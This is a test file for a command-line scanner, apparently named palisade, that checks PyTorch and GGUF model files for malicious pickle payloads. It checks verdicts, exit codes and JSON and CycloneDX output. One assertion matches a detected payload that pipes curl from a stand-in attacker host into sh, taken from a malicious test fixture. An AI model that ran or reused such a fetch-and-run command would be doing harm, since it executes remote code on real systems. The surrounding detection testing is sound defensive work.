import assert from "node:assert/strict";
import { join } from "node:path";
import { describe, it } from "node:test";
import { fileURLToPath } from "node:url";
import { runCli } from "../../../test/helpers/cli.js";
import { buildCorpus } from "../../scan/model/fixtures/corpus.js";

const ROOT = fileURLToPath(new URL("../../../", import.meta.url));

/** The shipped CLI (dist/, built by `npm test`). */
const run = (args: string[]) => runCli(["scan", ...args], { cwd: ROOT });

interface JsonOut {
  files: {
    path: string;
    format: string;
    verdict: string;
    sha256: string | null;
    findings: { severity: string; rule: string; detail: string; offset: number | null }[];
  }[];
  summary: Record<string, number>;
}

describe("palisade scan model", () => {
  const corpus = buildCorpus();
  const evil = join(corpus.dir, "malicious/pytorch-zip/pytorch_model.bin");
  const benign = join(corpus.dir, "benign/pytorch-zip/pytorch_model.bin");

  it("lists path, format, verdict, findings with offsets and sha256 as JSON", async () => {
    const result = await run(["model", evil, benign, "--format", "json"]);
    assert.equal(result.code, 0, result.stderr);
    const out = JSON.parse(result.stdout) as JsonOut;
    assert.deepEqual(
      out.files.map((f) => [f.path, f.format, f.verdict]),
      [
        [evil, "pytorch-zip", "malicious"],
        [benign, "pytorch-zip", "safe"],
      ],
    );
    const finding = out.files[0]?.findings[0];
    assert.equal(finding?.rule, "pickle-dangerous-call");
    assert.equal(finding?.severity, "critical");
    assert.match(finding?.detail ?? "", /system\("curl http:\/\/attacker\.example\/x \| sh"\)/);
    assert.equal(typeof finding?.offset, "number");
    assert.match(out.files[1]?.sha256 ?? "", /^[0-9a-f]{64}$/);
    assert.deepEqual(out.summary, { files: 2, malicious: 1, unscannable: 0, suspicious: 0, safe: 1 });
  });

  it("exits 1 with --exit-code when a file is malicious, 0 when all are safe", async () => {
    const failed = await run(["model", evil, "--exit-code"]);
    assert.equal(failed.code, 1);
    assert.match(failed.stdout, /MALICIOUS/);
    assert.match(failed.stderr, /1 model file\(s\) are malicious/);
    const passed = await run(["model", join(corpus.dir, "benign"), "--exit-code", "--no-hash"]);
    assert.equal(passed.code, 0, passed.stderr);
    assert.match(passed.stdout, /0 malicious, 0 unscannable, 0 suspicious/);
  });

  it("fails on unscannable files when asked", async () => {
    const file = join(corpus.dir, "hostile/truncated/truncated.pkl");
    assert.equal((await run(["model", file, "--exit-code"])).code, 0);
    assert.equal((await run(["model", file, "--exit-code", "--fail-on", "unscannable"])).code, 1);
  });

  it("exits 2 naming the input when a path does not exist", async () => {
    const result = await run(["model", "/nonexistent/model.bin"]);
    assert.equal(result.code, 2);
    assert.match(result.stderr, /\/nonexistent\/model\.bin/);
  });

  it("emits CycloneDX machine-learning-model components", async () => {
    const result = await run(["model", join(corpus.dir, "benign/gguf/llama.gguf"), "--format", "cyclonedx"]);
    assert.equal(result.code, 0, result.stderr);
    const bom = JSON.parse(result.stdout) as { specVersion: string; components: Record<string, unknown>[] };
    assert.equal(bom.specVersion, "1.6");
    assert.equal(bom.components[0]?.type, "machine-learning-model");
    assert.equal(bom.components[0]?.name, "tiny-llama");
  });
});
